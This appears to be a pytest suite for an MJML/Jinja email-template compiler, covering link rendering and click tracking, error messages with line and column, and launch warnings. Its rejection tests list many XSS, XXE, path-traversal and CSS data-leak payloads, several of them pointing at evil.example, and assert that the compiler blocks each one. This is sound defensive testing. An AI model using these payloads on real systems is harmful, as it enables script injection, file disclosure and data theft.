# ruff: noqa: E501 - tables of sources, one a line
"""Jinja anywhere in MJML, errors at their place, and nothing that a mail must not hold."""

import html5lib
import pytest

from chalicelib.domain.templates import CompiledTemplate


def links(html: str) -> list[str | None]:
    """The addresses that a browser would open: html5lib reads entities as the standard says."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    return [element.get("href") for element in tree.iter("a")]


# D1: what the author writes -> what the browser opens ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("href", "opened"),
    [
        ("https://shop.example/?a=1&amp;b=2", "https://shop.example/?a=1&b=2"),
        ("https://shop.example/?a=1&b=2", "https://shop.example/?a=1&b=2"),
        ("https://shop.example/?a=1&copy=2", "https://shop.example/?a=1&copy=2"),
        ("https://shop.example/tea#top", "https://shop.example/tea#top"),
        ("https://shop.example/a%20b", "https://shop.example/a%20b"),
        ("https://shop.example/grün?q=é", "https://shop.example/grün?q=é"),
        (
            "https://shop.example/?utm_source=mail&amp;utm_campaign=x%26y",
            "https://shop.example/?utm_source=mail&utm_campaign=x%26y",
        ),
        (
            "https://shop.example/?n={{ customer.first_name }}",
            "https://shop.example/?n=Zo%C3%AB%20%26%20%22Co%22%2F%3C",
        ),
        ("https://shop.example/{{ customer.first_name }}/x", "https://shop.example/Zo%C3%AB%20%26%20%22Co%22/%3C/x"),
        ("https://shop.example/#{{ customer.first_name }}", "https://shop.example/#Zo%C3%AB%20%26%20%22Co%22%2F%3C"),
        ("https://shop.example/?n={{ customer.last_name | urlencode }}", "https://shop.example/?n=a%20b"),
        ("{{ products[0].url }}", "https://shop.example/p?a=1&b=2#c"),
        ("{{ products[0].url }}&amp;n={{ customer.last_name }}", "https://shop.example/p?a=1&b=2#c&n=a%20b"),
        ("{{ products[0].url }}&amp;copy", "https://shop.example/p?a=1&b=2#c&copy"),
        ("{% if offer %}https://shop.example/?a=1&amp;copy{% endif %}", "https://shop.example/?a=1&copy"),
        (
            "{% if offer %}https://shop.example/o{% else %}https://shop.example/{% endif %}?x=1",
            "https://shop.example/o?x=1",
        ),
        ("{{ link(products[0].url) }}", "https://shop.example/p?a=1&b=2#c"),
        ("mailto:hello@shop.example?subject=Tea", "mailto:hello@shop.example?subject=Tea"),
        ("mailto:hello@shop.example?subject={{ customer.last_name }}", "mailto:hello@shop.example?subject=a%20b"),
        ("mailto:{{ shop.reply_to }}?subject=Tea", "mailto:service@shop.example?subject=Tea"),
        ("mailto:{{ customer.email }}", "mailto:a@shop.example%3Fbcc%3Db@shop.example"),
        ("tel:+441179000000", "tel:+441179000000"),
        ("#top", "#top"),
        ("{{ unsubscribe_url }}", "https://links.example/u/t"),
        ("{{ view_url }}", "https://links.example/v/t"),
        ("{{ preferences_url }}", "https://links.example/p/t"),
    ],
)
def test_a_link_arrives_as_the_author_meant_it(workshop, in_column, href, opened):
    """D1."""
    called = []

    def link(url: str, number: int) -> str:
        called.append(url)
        return url

    template = workshop.compile(in_column(f'<mj-text><a href="{href}">x</a></mj-text>'))
    variables = {
        "shop": {"reply_to": "service@shop.example"},
        "customer": {"first_name": 'Zoë & "Co"/<', "last_name": "a b", "email": "a@shop.example?bcc=b@shop.example"},
        "products": [{"url": "https://shop.example/p?a=1&b=2#c"}],
        "unsubscribe_url": "https://links.example/u/t",
        "preferences_url": "https://links.example/p/t",
        "view_url": "https://links.example/v/t",
        "link": link,
    }
    _, html, text = workshop.render(template, **variables)

    assert links(html) == [opened]
    assert text.strip() == f"x: {opened}" if opened != "#top" else "x"
    own = opened.startswith(("mailto:", "tel:", "#", "https://links.example"))
    assert set(called) == (set() if own else {opened})


def test_links_of_pictures_and_buttons_are_tracked_and_listed_in_order(workshop, in_column):
    source = in_column(
        '<mj-image src="https://shop.example/i.png" alt="Tea" href="https://shop.example/1"/>'
        '<mj-button href="https://shop.example/2">Go</mj-button>'
        '<mj-navbar><mj-navbar-link href="https://shop.example/3">N</mj-navbar-link></mj-navbar>'
    )
    template = workshop.compile(source)
    _, html, text = workshop.render(template, link=lambda url, number: f"https://links.example/c/{number}")

    assert template.links == ("https://shop.example/1", "https://shop.example/2", "https://shop.example/3")
    assert links(html) == [f"https://links.example/c/{n}" for n in "012"]
    assert text.splitlines()[0] == "Tea: https://links.example/c/0"
    assert 'src="https://shop.example/i.png"' in html


def test_each_link_has_its_number_in_html_and_text_whatever_leads_there(workshop, in_column):
    """A report of clicks by link rests on it: the number is the link's place in `links`, in a loop too."""
    source = in_column(
        '<mj-text><a href="mailto:a@b.example">m</a>'
        '{% for product in products %}<a href="{{ product.url }}">{{ product.name }}</a>{% endfor %}'
        '<a href="{{ link(products[0].url) }}">own</a> '
        '<a href="https://shop.example/{{ customer.first_name }}">path</a> {{ link("https://shop.example/words") }}'
        "</mj-text>"
    )
    template = workshop.compile(source)
    asked: list[tuple[str, int | None]] = []

    def link(url: str, number: int | None = None) -> str:
        asked.append((url, number))
        return url

    product = "https://shop.example.com/tea/first-flush?size=100&unit=g"
    workshop.render(template, link=link)

    half = len(asked) // 2
    assert asked[:half] == asked[half:]  # first the HTML, then the text
    assert asked[:half] == [
        *[(product, 1)] * 3,
        (product, 2),
        ("https://shop.example/Ada", 3),
        ("https://shop.example/words", None),
    ]
    assert template.links == (
        "mailto:a@b.example",
        "{{ product.url }}",
        "{{ products[0].url }}",
        "https://shop.example/{{ customer.first_name }}",
    )


@pytest.mark.parametrize("href", ["{{ link(unsubscribe_url) }}", "{{ link ( view_url ) }}"])
def test_a_page_of_the_mail_is_not_tracked_even_through_link(workshop, in_column, href):
    template = workshop.compile(in_column(f'<mj-text><a href="{href}">x</a></mj-text>'))
    _, html, _ = workshop.render(template, link=lambda url, number=None: "https://links.example/c/t")

    assert "/c/t" not in html


# D2: Jinja where authors put it -------------------------------------------------------------------------------------


def body(inner: str) -> str:
    return f"<mjml><mj-body>{inner}</mj-body></mjml>"


SECTION = "<mj-section><mj-column><mj-text>{}</mj-text></mj-column></mj-section>"


@pytest.mark.parametrize(
    ("source", "text"),
    [
        (body("{% for p in range(3) %}" + SECTION.format("s{{ p }}") + "{% endfor %}"), "s0\n\ns1\n\ns2"),
        (
            body(
                "{% if 1 < 2 and offer %}" + SECTION.format("yes") + "{% else %}" + SECTION.format("no") + "{% endif %}"
            ),
            "yes",
        ),
        (
            body(
                "<mj-section>{% for p in range(2) %}<mj-column><mj-text>c{{ p }}</mj-text></mj-column>{% endfor %}"
                "</mj-section>"
            ),
            "c0\n\nc1",
        ),
        (
            body(
                "<mj-wrapper>{% if true %}<mj-section><mj-group>{% if true %}<mj-column>{% if true %}<mj-text>deep</mj-text>"
                "{% endif %}</mj-column>{% endif %}</mj-group></mj-section>{% endif %}</mj-wrapper>"
            ),
            "deep",
        ),
        (
            body("<!-- {% if offer %} -->" + SECTION.format("hidden in a comment") + "<!-- {% endif %} -->"),
            "hidden in a comment",
        ),
        (body("<!-- {{ nonsense | x }} -->" + SECTION.format("kept")), "kept"),
        (body(SECTION.format("{% if 3 > 2 and 1 < 2 %}a & b{% endif %} &amp; c")), "a & b & c"),
        (body(SECTION.format("{{&nbsp;customer.first_name&nbsp;}}{{\u00a0customer.last_name\u00a0}}")), "AdaLovelace"),
        (body(SECTION.format("{% if 1 &lt; 2 &amp;nbsp; %}{% endif %}".replace("&amp;nbsp;", "&nbsp;") + "ok")), "ok"),
        (body(SECTION.format("{{ &quot;a&quot; }}{{ 'b&amp;c' }}{{ '}}' }}{{ \"{%\" }}")), "ab&c}}{%"),
        (body(SECTION.format("{# a comment {{ x }} #}after")), "after"),
        (body(SECTION.format("{%- set x = 5 -%} {{- x -}} !")), "5!"),
        (
            body(
                '<mj-section padding="{{ 3 }}px"><mj-column><mj-text color="{{ shop.brand.colour }}">t</mj-text></mj-column></mj-section>'
            ),
            "t",
        ),
        (
            body(
                "<mj-section><mj-column><mj-table>{% for p in range(2) %}<tr><td>r{{ p }}</td></tr>{% endfor %}</mj-table></mj-column></mj-section>"
            ),
            "r0\n\nr1",
        ),
        ("{% set a = 'top' %}\n" + body(SECTION.format("{{ a }}")), "top"),
        ("\ufeff" + body(SECTION.format("bom")).replace(">", ">\r\n"), "bom"),
    ],
)
def test_jinja_stands_between_sections_in_attributes_and_with_signs_of_markup(workshop, source, text):
    """D2."""
    assert workshop.render(workshop.compile(source))[2].strip() == text


def test_a_value_in_an_attribute_takes_its_place_in_every_mail(workshop):
    """D2."""
    shop = {"brand": {"colour": "#123456"}}
    source = body(
        '<mj-section padding="{{ 3 }}px {% if 1 < 2 %}7px{% else %}9px{% endif %}"><mj-column>'
        '<mj-text color="{{ shop.brand.colour }}">t</mj-text>'
        '<mj-image src="https://i.example/{{ customer.first_name }}.png" alt="{{ products[0].name }}"/>'
        "</mj-column></mj-section>"
    )
    _, html, _ = workshop.render(workshop.compile(source), shop=shop, products=[{"name": 'A "tin" & <tea>'}])
    page = html5lib.parse(html, namespaceHTMLElements=False)
    styles = [element.get("style", "").replace(" ", "") for element in page.iter()]
    [picture] = page.iter("img")

    assert any("padding:3px7px" in style for style in styles)
    assert any("color:#123456" in style for style in styles)
    assert (picture.get("src"), picture.get("alt")) == ("https://i.example/Ada.png", 'A "tin" & <tea>')


def test_the_subject_is_the_title_and_the_preview_the_preheader(workshop):
    head = "<mj-head><mj-title>Tea &amp; {{ customer.first_name }}</mj-title><mj-preview>Soon</mj-preview></mj-head>"
    source = f"<mjml>{head}<mj-body>{SECTION.format('x')}</mj-body></mjml>"
    by_title = workshop.compile(source, subject=None)
    given = workshop.compile(source, subject="For {{ customer.first_name }} {x}")

    assert workshop.render(by_title)[0] == "Tea & Ada"
    assert by_title.preheader == "Soon"
    assert workshop.render(given)[0] == "For Ada {x}"
    assert "Soon" in workshop.render(by_title)[1]
    assert "Soon" not in workshop.render(by_title)[2]


def test_html_takes_the_same_road_without_the_mjml_compiler(workshop):
    source = (
        "<!doctype html><html><head><title>Hi {{ customer.first_name }}</title></head><body>"
        '<p>Hello<p>Again<br><img src="https://shop.example/a.png" alt="Tea"><!--[if mso]><td>x</td><![endif]-->'
        '<table>{% for p in range(2) %}<tr><td><a href="https://shop.example/{{ p }}">{{ p }}</a></td></tr>{% endfor %}</table>'
        "</body></html>"
    )
    template = workshop.compile(source, mjml=False, subject=None)
    subject, html, text = workshop.render(template)

    assert subject == "Hi Ada"
    assert links(html) == ["https://shop.example/0", "https://shop.example/1"]
    assert text.startswith("Hello\n\nAgain")
    assert "<td>x</td>" in html


def test_the_default_font_is_loaded_from_nowhere(workshop):
    assert "googleapis" not in workshop.text("x").html


# D3: line and column --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "where", "message"),
    [
        ("<mj-txt>x</mj-txt>", "line 3, column 3", "<mj-txt> is no MJML tag. Did you mean 'mj-text'?"),
        ("<mj-text>x", "line 4, column 1", "</mj-column> closes nothing: <mj-text> of line 3, column 3 is still open."),
        ("<mj-text><b>x</mj-text>", "line 3, column 16", "</mj-text> closes nothing: <b> of line 3, column 12 is still open."),
        ('<mj-text colour="red">x</mj-text>', "line 3, column 12", "<mj-text> has no attribute `colour`. Did you mean 'color'?"),
        ("<mj-text color=red>x</mj-text>", "line 3, column 17", "The value after `=` in <mj-text> needs quotes."),
        ("<mj-text>{{ customer.frist_name }}</mj-text>", "line 3, column 24", "`customer` has no field `frist_name`. Did you mean 'first_name'?"),
        ("<mj-text>{{ costumer.first_name }}</mj-text>", "line 3, column 15", "There is no variable `costumer`. Did you mean 'customer'?"),
        ("<mj-text>{{ FirstName }}</mj-text>", "line 3, column 15", "There is no variable `FirstName`. Did you mean 'customer.first_name'?"),
        ("<mj-text>{{ link }}</mj-text>", "line 3, column 15", "`link` is a function: call it, link(...)."),
        ("<mj-text>\n  {{ customer.points | mony }}</mj-text>", "line 4, column 24", "There is no filter `mony`. Did you mean 'money'?"),
        ("<mj-text>{% if offer is defnied %}x{% endif %}</mj-text>", "line 3, column 27", "There is no test `defnied`. Did you mean 'defined'?"),
        ("<mj-text>{% if offer %}x</mj-text>", "line 3, column 12", "`{% if %}` is never closed. Add {% endif %}."),
        ("<mj-text>{{ customer.first_name }</mj-text>", "line 3, column 12", "`{{` is never closed by `}}`"),
        ("<mj-text>{% fi offer %}</mj-text>", "line 3, column 12", "There is no `{% fi %}` here. Templates have if, for, set and include."),
        ("<mj-text>a <{{ customer.first_name }}</mj-text>", "line 3, column 14", "This `<` opens no tag. Write `&lt;` for the sign itself."),
        ("< mj-text>x</mj-text>", "line 3, column 3", "This `<` opens no tag: its name must follow at once."),
        ("<mj-text>{% autoescape false %}x{% endautoescape %}</mj-text>", "line 3, column 12", "`{% autoescape %}` is not allowed: values are always escaped."),
        ("hello", "line 3, column 3", "Text stands outside of any element that shows it. Put it into mj-text."),
        ("{{ customer.first_name }}", "line 3, column 3", "Text stands outside of any element that shows it. Put it into mj-text."),
        ("<mj-section></mj-section>", "line 3, column 3", "<mj-section> cannot stand inside <mj-column>"),
        ("<mj-text {{ offer }}>x</mj-text>", "line 3, column 12", "A value must stand in the quotes of an attribute"),
        ("<mj-text>{{ offer.words }}</mj-text>", "line 3, column 15", "`offer` is null in a message without one. Put it inside {% if offer %}"),
        ("<mj-text><buton>x</buton></mj-text>", "line 3, column 12", "<buton> is no tag that a mail may use."),
        ("<mj-accordion><mj-accordion-element>{% for x in products %}{% endfor %}</mj-accordion-element></mj-accordion>", "line 3, column 39", "This loop cannot stand inside <mj-accordion-element> as it is. Put it inside mj-accordion-text."),
    ],
)  # fmt: skip
def test_a_mistake_is_named_at_its_line_and_column_with_the_mend(workshop, in_column, content, where, message):
    """D3."""
    source = in_column("\n\n  " + content + "\n")
    problems = workshop.refused(source)

    assert problems[0].where == where
    assert message in problems[0].message


def test_every_mistake_is_named_at_once_in_the_order_of_the_source(workshop, in_column):
    """D3."""
    source = in_column("<mj-txt>x</mj-txt>\n<mj-text>{{ nope }}</mj-text>\n<mj-text colr='1'>{{ 1 | nope }}</mj-text>")

    assert [problem.where.split(",")[0] for problem in workshop.refused(source)] == [
        "line 1",
        "line 2",
        "line 3",
        "line 3",
    ]


def test_a_block_that_opens_in_one_element_and_closes_in_another_is_refused(workshop, in_column):
    source = in_column("<mj-text>{% if offer %}a</mj-text><mj-text>b{% endif %}</mj-text>")

    [problem] = workshop.refused(source)
    assert "`endif` stands in <mj-text>, but its `if` of line 1" in problem.message


def test_a_mistake_in_a_partial_names_the_partial(workshop):
    from chalicelib.email.compilation import Job, compile_source
    from chalicelib.errors import TemplateInvalid

    source = body("\n{% include 'partials/p.mjml' %}" + SECTION.format("{{ nope }}"))
    partials = {"partials/p.mjml": SECTION.format("\n{{ nope }}")}
    with pytest.raises(TemplateInvalid) as refused:
        compile_source(Job("test", "en", source, "s", True, partials))

    first, second = refused.value.details
    assert first.where == "partials/p.mjml, line 2, column 4"
    assert second.where.startswith("line 2, column ")


def test_a_mistake_in_the_given_subject_names_its_column(workshop):
    [problem] = workshop.refused(body(SECTION.format("x")), subject="Hi {{ custmer.first_name }}")

    assert problem.where == "subject, column 7"


# D4, D7, D9: what is refused ---


@pytest.mark.parametrize(
    "content",
    [
        '<mj-include path="/etc/passwd"/>',
        '<mj-include path="https://evil.example/x.mjml"/>',
        "{% include '../../app.py' %}",
        "{% include '/etc/passwd' %}",
        "{% include shop.name %}",
        "{% include ['partials/head.mjml'] %}",
        "{% import 'partials/head.mjml' as x %}",
        "{% extends 'partials/head.mjml' %}",
        "<mj-text><![CDATA[x]]></mj-text>",
    ],
)
def test_nothing_is_read_from_files_or_addresses(workshop, in_column, content):
    """D4."""
    assert workshop.refused(in_column(content))


@pytest.mark.parametrize(
    "source",
    [
        '<!DOCTYPE mjml [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body(SECTION.format("&x;")),
        '<!ENTITY x "y">' + body(SECTION.format("x")),
        '<?xml version="1.0"?><!DOCTYPE mjml [<!ENTITY x "y">]>' + body(SECTION.format("&x;")),
        '<!DOCTYPE html [<!ENTITY x SYSTEM "http://evil.example/x">]>' + body(SECTION.format("&x;")),
        body(SECTION.format("<![CDATA[ x ]]>")),
    ],
)
def test_dtds_and_entities_are_refused(workshop, source):
    """D4."""
    assert workshop.refused(source)


@pytest.mark.parametrize(
    "content",
    [
        "{{ customer.first_name | safe }}",
        "{{ customer.first_name | tojson }}",
        "{{ customer.first_name | xmlattr }}",
        "{% autoescape false %}{{ customer.first_name }}{% endautoescape %}",
        "{% filter safe %}x{% endfilter %}",
        "{% set x %}<b>{% endset %}{{ x }}",
        "{{ customer.first_name | css }}",
        "{{ Markup('x') }}",
        "{{ customer.first_name.__html__() }}",
        "{% raw %}{{ x }}{% endraw %}",
    ],
)
def test_nothing_turns_escaping_off(workshop, content):
    """D7."""
    assert workshop.refused_text(content)


@pytest.mark.parametrize(
    "content",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JAVASCRIPT&colon;alert(1)">x</a>',
        '<a href=" java&#10;script:alert(1)">x</a>',
        '<a href="&#x6A;avascript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<a href="vbscript:x">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<a href="//evil.example">x</a>',
        '<a href="\\\\evil.example">x</a>',
        '<a href="https://user@evil.example/">x</a>',
        '<a href="https://user:pw@evil.example/{{ customer.id }}">x</a>',
        '<a href="https://{{ customer.id }}/">x</a>',
        '<a href="https://shop.example{{ customer.id }}">x</a>',
        '<a href="javascript:{{ customer.id }}">x</a>',
        '<img src="javascript:alert(1)">',
        '<img src="data:image/svg+xml,x">',
        '<td background="javascript:x">x</td>',
        '<img src="https://x.example/a.png" srcset="javascript:x 1x">',
        '<img src="https://x.example/a.png" srcset="https://x.example/a.png 1x, //evil.example/b 2x">',
        '<img src="https://x.example/a.png" srcset="https://x.example/{{ customer.id }} 1x">',
        '<img src="https://x.example/a.png" usemap="https://evil.example">',
        "<script>alert(1)</script>",
        "<SCRIPT src='https://evil.example/x.js'></SCRIPT>",
        "<img src='https://shop.example/x.png' onerror='alert(1)'>",
        "<svg/onload=alert(1)>",
        "<svg onload='x'></svg>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data='x'></object>",
        "<form action='https://evil.example'><input></form>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
        "<link rel='stylesheet' href='https://evil.example/x.css'>",
        "<link rel='stylesheet' href='https://fonts.googleapis.com.evil.example/x.css'>",
        "<link rel='stylesheet' href='https://fonts.googleapis.com/css?{{ customer.first_name }}'>",
        "<link rel='prefetch' href='https://evil.example'>",
        "<link rel='icon' href='javascript:alert(1)'>",
        "<link itemprop='url' href='javascript:alert(1)'>",
        "<link itemprop='url' rel='stylesheet' href='https://evil.example'>",
        "<style>@import 'https://fonts.googleapis.com/x' screen, url(https://evil.example)</style>",
        "<style>@import url(https://fonts.googleapis.com@evil.example/x)</style>",
        '<style>@import"https://evil.example/x"</style>',
        "<style>@import/**/'https://evil.example/x'</style>",
        "<style>@IMPORT url(//evil.example/x)</style>",
        "<style>@import</style>",
        "<a href='{{ \"javascript\" }}:alert(1)'>x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<p title='x'onclick='y'>x</p>",
        "<p title=x onclick=y>x</p>",
        "<img src='https://shop.example/a.png' srcset='javascript:x 2x'>",
        "<video poster='javascript:x'></video>",
        "<details ontoggle='x' open>x</details>",
        "<![if !mso]><script>x</script><![endif]>",
        "<!--[if mso]><script>x</script><![endif]-->",
        "<!--[if !mso]> <!--><script>x</script><!--<![endif]-->",
        "<meta name='referrer' content='unsafe-url'>",
        "<a href='https://shop.example' ping='https://evil.example'>x</a>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<p style='background:url(data:image/png;base64,AAAA)'>x</p>",
        "<p style='background:url(//evil.example/x)'>x</p>",
        "<p style='background:u&#114;l(javascript:x)'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='background:\\75rl(x)'>x</p>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>@\\69mport 'https://evil.example/x.css';</style>",
        "<style>@import url(https://evil.example/fonts.googleapis.com);</style>",
        "<style>a[href^='x']{background:url(https://evil.example)}</style>",
        "<style>@media screen{a:hover{background:url(https://evil.example)}}</style>",
        '<style>"/*" a{behavior:x} "*/"</style>',
        "<style>a{background:url(https://a.example/*)} b{behavior:x} c{background:url(https://b.example/*/)}</style>",
        "<style>.a\\/*b{} c{behavior:x}*/</style>",
        "<style>@font-face{src:url(//evil.example/x)}</style>",
        "<style>a:hover{content:'}';background:url(https://evil.example/x)}</style>",
        "<style>a[href]{b{background:url(https://evil.example/x)}}</style>",
        "<style>a{background:url(https://evil.example/(x))}</style>",
        "<style>a{background:url('https://evil.example/x' 'y')}</style>",
        "<style>a{background:url(  )}</style>",
        "<style>a{background:url(https://evil.example/x</style>",
        "<style>b{background:u{# #}rl(javascript:x)}</style>",
        "<p style='background:u{% if offer %}rl(javascript:x){% endif %}'>x</p>",
        "<p style='background:u{% if offer %} {% else %}rl(javascript:x){% endif %}'>x</p>",
        "<p style='background:{{ \"ur\" }}l(javascript:x)'>x</p>",
        "<p style='background:{% for x in range(2) %}rl(x)u{% endfor %}'>x</p>",
        "<p style='behav{{ customer.first_name }}:x'>x</p>",
        "<style>{% if offer %}/*{% endif %} a{behavior:x} {% if offer %}*/{% endif %}</style>",
        "<style>{% if offer %}'{% endif %}' /* ' a{behavior:x} */</style>",
        "<img src='java{# #}script:alert(1)'>",
        "<a href='java{# #}script:alert(1)'>x</a>",
        "<img src=x onerror=alert(1)//",
        "<!--><script>alert(1)</script>-->",
        "<!--[if mso]>--><script>alert(1)</script><!--<![endif]-->",
    ],
)
def test_code_and_bad_addresses_are_refused_in_mjml_and_in_html(workshop, content):
    """D9, and design section 7."""
    assert workshop.refused_text(content)
    assert workshop.refused(f"<html><body>{content}</body></html>", mjml=False)


@pytest.mark.parametrize(
    "content",
    [
        '<mj-button href="javascript:alert(1)">x</mj-button>',
        '<mj-image src="javascript:alert(1)"/>',
        '<mj-image src="https://shop.example/a.png" href="//evil.example"/>',
        '<mj-text onclick="x">x</mj-text>',
        '<mj-image src="https://shop.example/a.png" onerror="x"/>',
    ],
)
def test_mjml_attributes_are_checked_too(workshop, in_column, content):
    """D9: the MJML compiler passes these on unchanged."""
    assert workshop.refused(in_column(content))


@pytest.mark.parametrize(
    "head",
    [
        "<mj-style>@import url(https://evil.example);</mj-style>",
        '<mj-font name="x" href="http://evil.example"/>',
        '<mj-font name="x" href="javascript:x"/>',
        "<mj-raw><script>x</script></mj-raw>",
        '<mj-attributes><mj-all href="javascript:x"/></mj-attributes>',
    ],
)
def test_the_head_is_checked_too(workshop, head):
    assert workshop.refused(f"<mjml><mj-head>{head}</mj-head><mj-body></mj-body></mjml>")


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "//evil.example", "https://a@evil.example", "data:x", "relative"]
)
def test_a_variable_that_becomes_a_picture_must_lead_to_the_web(workshop, in_column, url):
    """D9."""
    from chalicelib.errors import RenderingFailed

    template = workshop.compile(in_column('<mj-image src="{{ products[0].image_url }}"/>'))
    with pytest.raises(RenderingFailed):
        workshop.render(template, products=[{"image_url": url}])


def test_the_address_of_a_picture_arrives_as_it_is(workshop, in_column):
    """D1: `&copy` at its end is no copyright sign."""
    template = workshop.compile(in_column('<mj-image src="{{ products[0].image_url }}"/>'))
    _, html, _ = workshop.render(template, products=[{"image_url": "https://i.example/a.png?a=1&copy"}])
    [picture] = html5lib.parse(html, namespaceHTMLElements=False).iter("img")

    assert picture.get("src") == "https://i.example/a.png?a=1&copy"


def test_what_the_author_means_as_markup_of_jinja_in_plain_text_stays_text(workshop):
    """CSS may hold `{#` with a space; compiled literals never become Jinja."""
    source = "<mjml><mj-head><mj-style>@media print{ #a{color:red}}</mj-style></mj-head><mj-body></mj-body></mjml>"

    assert "{ #a{color:red}}" in workshop.render(workshop.compile(source))[1]


# Warnings ---


def rules(template: CompiledTemplate) -> list[tuple[str, str]]:
    return [(warning.rule, warning.where) for warning in template.warnings]


def test_what_must_not_be_launched_is_stored_with_warnings(workshop, in_column):
    """C9: no subject, no unsubscribe link, no postal address, empty and relative links."""
    source = in_column('<mj-text><a href="">x</a><a href="/tea">y</a></mj-text>\n<mj-button>z</mj-button>')
    template = workshop.compile(source, subject=None)

    assert rules(template) == [
        ("subject", ""),
        ("unsubscribe", ""),
        ("postal-address", ""),
        ("link", "line 1, column 57"),
        ("link", "line 1, column 73"),
        ("link", "line 2, column 1"),
    ]
    assert len(template.refuses_launch) == 6


def test_a_mail_that_gmail_would_cut_is_warned_of_and_may_be_launched(workshop):
    """D12: over 102 kB, and not before."""
    needed = '{{ postal_address }}<a href="{{ unsubscribe_url }}">u</a>'
    around = workshop.text(needed).size_bytes
    template = workshop.text("x" * (102 * 1024 + 1 - around) + needed)

    assert (template.size_bytes, rules(template)) == (102 * 1024 + 1, [("size", "")])
    assert template.refuses_launch == []
    assert rules(workshop.text("x" * (102 * 1024 - around) + needed)) == []


def test_a_value_that_some_customers_lack_is_warned_of(workshop):
    """D11."""
    template = workshop.text('{{ customer.first_name }} {{ postal_address }}<a href="{{ unsubscribe_url }}">u</a>')

    [warning] = template.warnings
    assert warning.rule == "may-be-missing"
    assert "`first_name` is empty" in warning.message


def test_the_version_names_the_content(workshop):
    assert workshop.text("a").version == workshop.text("a").version
    assert workshop.text("a").version != workshop.text("b").version
    assert workshop.text("{{ customer.first_name }} {{ offer.words if offer }}").variables == (
        "customer.first_name",
        "offer.words",
    )
